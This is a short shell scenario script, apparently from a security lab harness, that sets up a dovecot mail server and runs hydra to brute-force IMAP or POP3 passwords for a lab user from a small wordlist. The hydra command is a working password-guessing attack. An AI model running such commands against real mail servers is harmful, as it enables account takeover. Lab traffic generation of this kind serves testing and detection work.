# SPDX-License-Identifier: MIT
# label: bruteforce-other
# source: lab-hydra
# needs: hydra dovecot
# seconds: 60
# Passwords for a mailbox, imap or pop3.
. $lab/victims.sh

servers() {
	victim_mail c
	words_up 80
}

scenario() {
	cd "$work" || return
	_service=$(choose imap pop3)
	_port=143
	[ "$_service" = imap ] || _port=110
	_tasks=$(choose 1 4 8)
	setting options "$_service -t $_tasks"
	attack t c tcp "$_port" -- timeout 50 hydra -I -t "$_tasks" -l lab \
		-P "$work/words" "$(addr c)" \
		"$_service"
}
